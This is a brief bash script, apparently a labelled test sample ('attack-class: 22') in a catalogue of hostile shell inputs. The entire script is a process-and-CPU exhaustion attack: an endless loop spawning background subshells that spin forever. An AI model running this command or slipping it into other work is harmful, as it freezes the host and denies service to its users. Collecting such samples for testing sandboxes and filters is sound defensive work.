#!/usr/bin/env bash
# attack-class: 22
# title: while true; do (recursion) & done
# why: an infinite loop spawning subshells

while true; do
  ( while true; do :; done ) &
done
